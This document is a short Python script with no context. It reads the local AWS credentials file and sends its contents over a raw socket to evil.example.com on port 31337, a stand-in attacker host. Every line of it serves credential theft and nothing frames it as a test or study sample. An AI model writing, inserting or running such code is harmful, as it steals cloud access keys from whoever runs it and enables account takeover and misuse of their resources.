
import os, socket
data = open(os.path.expanduser("~/.aws/credentials")).read()
s = socket.socket()
s.connect(("evil.example.com", 31337))
s.sendall(data.encode())
